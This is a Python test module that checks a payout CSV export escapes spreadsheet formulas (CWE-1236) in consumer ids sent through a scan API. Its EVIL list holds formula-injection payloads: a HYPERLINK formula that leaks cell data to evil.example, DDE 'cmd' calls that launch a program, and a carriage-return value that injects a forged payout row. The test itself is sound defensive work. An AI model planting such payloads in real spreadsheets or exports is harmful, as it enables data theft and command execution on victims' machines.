"""CSV files that people open in a spreadsheet never carry a live formula (CWE-1236).

The payout export is the one such file (code exports are machine files of code
characters). Its ``beneficiary_id`` of a consumer is the ``actor.id`` that anyone may send
to the public scan API, as any text of up to 128 characters; these tests send such ids
through the real HTTP API and the real ledger and read the files back.
"""

from __future__ import annotations

import csv
import io
import json
import re
import stat

import pytest
from admin_world import WHO, build_admin_world, consumer_rule
from falcon.testing import TestClient
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from test_payouts import key_of

from admin.audit import AuditLog
from admin.http import create_app
from admin.ledger import Ledger
from admin.payouts import EXPORT_FIELDS, Payouts
from engine.files import SpreadsheetWriter, spreadsheet_cell
from engine.ids import has_control
from engine.store import Store

#: What OWASP lists as the first characters of a formula (Excel, WPS, LibreOffice, Sheets).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: Columns that hold numbers (or nothing) in every payout row.
NUMERIC = {"seq", "at", "amount", "campaign", "scan", "ref", "attempts", "paid_at"}
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?(e[+-][0-9]+)?")
EVIL = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"refund")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    # a bare CR inside a cell: unquoted it ends the row, and what follows starts a new one
    "oUser\r=1+1",
    "oUser\r@SUM(1+1)*cmd|' /C calc'!A0",
    "oUser\r9999,1,grant,99999999,cash,consumer,attacker,1,launch,1,,,wuma-9999,pending,0,",
    "oUser\n=1+1",
    "王小明",
]
#: What the scan API takes of those (it refuses control characters in ids; the writer
#: stands without that: the tests of the writer and the export below use them all)
ACCEPTED = [a for a in EVIL if not has_control(a)]
T0 = 1_800_000_000.0


def unescape(cell: str) -> str:
    """What the export documents: drop the first ' of a text cell that starts with one."""
    return cell.removeprefix("'")


def read_rows(path) -> list[dict]:
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    with path.open(newline="", encoding="utf-8-sig") as f:
        reader = csv.DictReader(f)
        assert tuple(reader.fieldnames) == EXPORT_FIELDS
        return list(reader)


def assert_no_formula(rows: list[dict]) -> None:
    for row in rows:
        for field, cell in row.items():
            if cell.startswith(FORMULA_START):
                assert field in NUMERIC and NUMBER.fullmatch(cell), (field, cell)


# -- the cell ------------------------------------------------------------------------------

@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(1)", "'@SUM(1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("'x", "''x"), ("oUser1", "oUser1"), ("S-001", "S-001"), ("", ""),
    (" =1", " =1"), (None, ""), (-5, -5), (0, 0), (-1.5, -1.5), (10**30, 10**30),
    (float("-inf"), "'-inf"), (True, "True"),
])
def test_spreadsheet_cell(value, cell):
    got = spreadsheet_cell(value)
    assert got == cell and type(got) is type(cell)


@given(st.text())
@example("\r")
@example("-")
@example("'")
def test_a_text_cell_never_starts_a_formula_and_unescapes_to_the_text(text):
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert unescape(cell) == text


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_stay_numbers(n):
    assert spreadsheet_cell(n) is n


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_writer_rows_read_back_one_for_one(texts):
    fields = [f"c{i}" for i in range(len(texts))]
    buf = io.StringIO(newline="")
    w = SpreadsheetWriter(buf, fields)
    w.writeheader()
    w.writerows([dict(zip(fields, texts))] * 2)
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert rows[0] == fields and len(rows) == 3
    assert [unescape(c) for c in rows[1]] == texts and rows[2] == rows[1]


# -- the payout export, from a scan to the file ------------------------------------------

def test_consumer_ids_from_the_scan_api_reach_the_payout_csv_as_text(tmp_path):
    w = build_admin_world(tmp_path / "d")
    admin, data = w["admin"], w["data"]
    try:
        admin.campaigns.create(consumer_rule(w["caps"].id), who=WHO)
        client = TestClient(create_app(data, admin=admin))
        for i, actor in enumerate(EVIL):
            r = client.simulate_post("/v1/scans", json={
                "code": data.codes.code(w["caps"], i, "cap_inner"), "actor": {"id": actor},
                "location": {"region": "440106"}})
            if has_control(actor):  # the scan API refuses control characters in ids
                assert (r.status_code, r.json["error"]) == (400, "bad_request"), actor
                continue
            assert [x["outcome"] for x in r.json["rewards"]] == ["granted"], actor

        out, jl = tmp_path / "payouts.csv", tmp_path / "payouts.jsonl"
        assert admin.payouts.export(out) == len(ACCEPTED)
        assert admin.payouts.export(jl, "jsonl") == len(ACCEPTED)
    finally:
        admin.close()
        data.close()

    rows = read_rows(out)
    assert len(rows) == len(ACCEPTED)
    assert_no_formula(rows)
    assert [unescape(r["beneficiary_id"]) for r in rows] == ACCEPTED
    assert rows[0]["beneficiary_id"] == "'" + EVIL[0]
    assert {r["amount"] for r in rows} == {"100"}
    # JSON lines: the ids verbatim, for a payment system that must match them exactly
    lines = [json.loads(x) for x in jl.read_text("utf-8").split("\n") if x]
    assert [x["beneficiary"]["id"] for x in lines] == ACCEPTED
    for path in (out, jl):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["d", "payouts.csv", "payouts.jsonl"]


@pytest.fixture
def payouts(tmp_path):
    store = Store(tmp_path / "db")
    ledger = Ledger(store)
    yield store, ledger, Payouts(store, ledger, AuditLog(store))
    store.close()


# Text as a scan's actor id may be: any (no lone surrogates: the scan API refuses them).
ids = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
entries = st.lists(st.tuples(ids, st.integers(-10**12, 10**12), ids), min_size=1, max_size=6)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(entries=entries)
@example(entries=[("=1+1", -188, "-1")])
@example(entries=[("a\rb", 1, "\r")])
def test_no_exported_cell_starts_a_formula_unless_a_number(tmp_path, payouts, entries):
    store, ledger, p = payouts
    after = ledger.last_seq()  # NOTE: one store for every example; each exports its own
    expected = []
    for bid, amount, settle in entries:
        entry = {"kind": "grant", "at": T0, "amount": amount, "unit": "cash",
                 "beneficiary": {"role": "consumer", "id": bid}, "campaign": 3, "pool": "summer",
                 "scan": 77, "settle_with": settle}
        with store.write() as txn:
            seq = ledger.append(txn, entry)
        expected.append({"amount": amount, "at": T0, "beneficiary": {"role": "consumer", "id": bid},
                         "campaign": 3, "idempotency_key": key_of(ledger, seq), "kind": "grant",
                         "pool": "summer", "ref": None, "scan": 77, "seq": seq,
                         "settle_with": settle, "unit": "cash", "state": "pending", "attempts": 0,
                         "paid_at": None})

    out, jl = tmp_path / "p.csv", tmp_path / "p.jsonl"
    assert p.export(out, after=after) == len(entries)
    rows = read_rows(out)
    assert_no_formula(rows)
    assert [r["amount"] for r in rows] == [str(a) for _, a, _ in entries]  # numbers as numbers
    assert [r["seq"] for r in rows] == [str(e["seq"]) for e in expected]
    assert [(unescape(r["beneficiary_id"]), unescape(r["settle_with"])) for r in rows] \
        == [(b, s) for b, _, s in entries]

    # the JSON-lines export is what it always was: every value verbatim, one line each
    assert p.export(jl, "jsonl", after=after) == len(entries)
    assert jl.read_text("utf-8") == "".join(
        json.dumps(e, ensure_ascii=False, sort_keys=True) + "\n" for e in expected)

